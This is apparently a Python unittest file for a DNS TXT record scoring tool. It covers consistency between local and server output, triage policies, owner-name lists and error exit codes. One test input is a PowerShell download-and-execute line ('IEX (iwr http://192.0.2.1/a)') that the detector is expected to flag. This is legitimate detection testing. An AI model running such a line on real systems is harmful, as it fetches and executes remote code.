"""txtsentry score: the same bytes in process and through a server, errors, exit codes."""

import base64
import json
import pathlib
import random
import sys
import tempfile
import unittest

from programs import DEFAULT_MODEL, SOURCE, Daemon, txtsentry

sys.path.insert(0, str(SOURCE / "tests" / "golden"))
import sample_strings

DATA = SOURCE / "tests" / "data"


class SameBytesTest(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.daemon = Daemon("--engine", "auto")
        cls._folder = tempfile.TemporaryDirectory()
        cls.hostile = pathlib.Path(cls._folder.name) / "hostile.ndjson"
        rng = random.Random(5)
        records = [sample_strings.make(rng) for _ in range(1500)]
        # The giants have tests of their own; here they would only take time.
        records += [r for r in sample_strings.edge_cases() if len(r) < 1000]
        with cls.hostile.open("w") as out:
            for record in records:
                out.write(json.dumps({"strings_b64": [base64.b64encode(record).decode()]}) + "\n")

    @classmethod
    def tearDownClass(cls):
        cls.daemon.__exit__()
        cls._folder.cleanup()

    def both(self, *arguments):
        local = txtsentry("score", "--model", DEFAULT_MODEL, "--progress", "never", *arguments)
        remote = txtsentry("score", "--server", self.daemon.target, "--progress", "never",
                           *arguments)
        self.assertEqual(local.returncode, 0, local.stderr)
        self.assertEqual(remote.returncode, 0, remote.stderr)
        self.assertEqual(local.stdout, remote.stdout)
        return local.stdout

    def test_in_process_and_through_a_server_are_the_same_bytes(self):
        for log in (DATA / "zeek_dns.log", DATA / "zeek_dns.json", self.hostile):
            for output in ("ndjson", "csv"):
                with self.subTest(log=log.name, output=output):
                    self.assertGreater(len(self.both("-f", output, log)), 1000)

    def test_every_batch_size_gives_the_same_bytes(self):
        found = {self.both("-f", "csv", "--batch", batch, self.hostile) for batch in (1, 7, 500)}
        self.assertEqual(len(found), 1)

    def test_every_record_has_its_row_in_order(self):
        rows = self.both("-f", "ndjson", self.hostile).splitlines()
        events = self.hostile.read_text().splitlines()
        self.assertEqual(len(rows), len(events))
        for row, event in zip(rows, events):
            scored = json.loads(row)
            self.assertIn("probability", scored.pop("txt_score"))
            self.assertEqual(scored, json.loads(event))


class PolicyTest(unittest.TestCase):
    LINES = b"v=spf1 -all\nIEX (iwr http://192.0.2.1/a)\nhello there\n0802541e\n"

    def test_triage_gives_the_same_labels_in_process_and_through_a_server(self):
        with Daemon("--policy", "triage") as daemon:
            for threshold in ((), ("--threshold", "0"), ("--threshold", "1")):
                with self.subTest(threshold=threshold):
                    arguments = ("-i", "lines", "-f", "ndjson", *threshold, "-")
                    local = txtsentry("score", "--model", DEFAULT_MODEL, "--policy", "triage",
                                      *arguments, stdin=self.LINES)
                    remote = txtsentry("score", "--server", daemon.target, *arguments,
                                       stdin=self.LINES)
                    self.assertEqual(local.returncode, 0, local.stderr)
                    self.assertEqual(local.stdout, remote.stdout, remote.stderr)
                    scores = [json.loads(row)["txt_score"] for row in local.stdout.splitlines()]
                    self.assertEqual([s["label"] for s in scores[:2]], [0, 1])
                    self.assertEqual(scores[0]["matcher"], "spf")
                    self.assertEqual(scores[1]["execution_rule"], "invoke_expression")

    def test_a_list_of_owner_names_explains_values_or_is_refused_by_its_line(self):
        with tempfile.TemporaryDirectory() as folder:
            names = pathlib.Path(folder) / "owner_names"
            names.write_text("build_stamp stack\\..* [0-9a-f]{8} 8\n")
            event = b'{"text": "0802541e", "owner_name": "stack.active.dev"}\n'
            arguments = ("score", "--model", DEFAULT_MODEL, "--owner-names", names, "-i", "ndjson",
                         "-f", "ndjson", "-")
            ran = txtsentry(*arguments, stdin=event)
            self.assertEqual(ran.returncode, 0, ran.stderr)
            score = json.loads(ran.stdout)["txt_score"]
            self.assertEqual(score["reasons"], ["OWNER_NAME_CONTEXT"])
            self.assertEqual(score["matcher"], "build_stamp")
            names.write_text("\nbuild_stamp stack\n")
            ran = txtsentry(*arguments, stdin=event)
            self.assertNotEqual(ran.returncode, 0)
            self.assertIn(b"line 2: fields=2", ran.stderr)


class ErrorTest(unittest.TestCase):
    def test_a_server_that_is_not_there_is_exit_4(self):
        ran = txtsentry("score", "--server", "127.0.0.1:1", "-i", "lines", "-", stdin=b"a\n")
        self.assertEqual(ran.returncode, 4)
        self.assertIn(b"127.0.0.1:1", ran.stderr)

    def test_a_file_that_is_not_there_is_an_error_with_its_name(self):
        ran = txtsentry("score", "--model", DEFAULT_MODEL, "/nonexistent.log")
        self.assertNotEqual(ran.returncode, 0)
        self.assertIn(b"/nonexistent.log", ran.stderr)

    def test_a_full_disk_is_an_error_and_leaves_no_half_file(self):
        if not pathlib.Path("/dev/full").exists():
            self.skipTest("no /dev/full here")
        with open("/dev/full", "wb") as full:
            import subprocess

            from programs import BIN
            ran = subprocess.run(
                [BIN / "txtsentry", "score", "--model", DEFAULT_MODEL, "-i", "lines", "-f", "csv",
                 "-"], input=b"a\n" * 100000, stdout=full, stderr=subprocess.PIPE, timeout=120)
        self.assertEqual(ran.returncode, 3)
        self.assertIn(b"space", ran.stderr)

    def test_usage_errors_are_exit_2(self):
        self.assertEqual(txtsentry("score").returncode, 2)
        self.assertEqual(txtsentry("score", "--model", DEFAULT_MODEL, "-i", "xml").returncode, 2)
        self.assertEqual(txtsentry("nonsense").returncode, 2)

    def test_bad_lines_are_kept_counted_and_bounded_by_max_errors(self):
        lines = b'{"text": "a"}\nnot json\n{"text": "b"}\n'
        ran = txtsentry("score", "--model", DEFAULT_MODEL, "-i", "ndjson", "-f", "ndjson", "-",
                        stdin=lines)
        self.assertEqual(ran.returncode, 0, ran.stderr)
        rows = [json.loads(row) for row in ran.stdout.splitlines()]
        self.assertEqual(len(rows), 3)
        self.assertIn("error", rows[1]["txt_score"])
        self.assertEqual(rows[1]["line"], "not json")
        ran = txtsentry("score", "--model", DEFAULT_MODEL, "-i", "ndjson", "-f", "ndjson",
                        "--max-errors", "0", "-", stdin=lines)
        self.assertEqual(ran.returncode, 3)

    def test_exit_code_says_whether_anything_was_suspicious(self):
        arguments = ("score", "--model", DEFAULT_MODEL, "-i", "lines", "-f", "csv", "--exit-code")
        self.assertEqual(txtsentry(*arguments, "--threshold", "0", "-", stdin=b"a\n").returncode, 1)
        self.assertEqual(txtsentry(*arguments, "--threshold", "1", "-", stdin=b"a\n").returncode, 0)


if __name__ == "__main__":
    unittest.main()
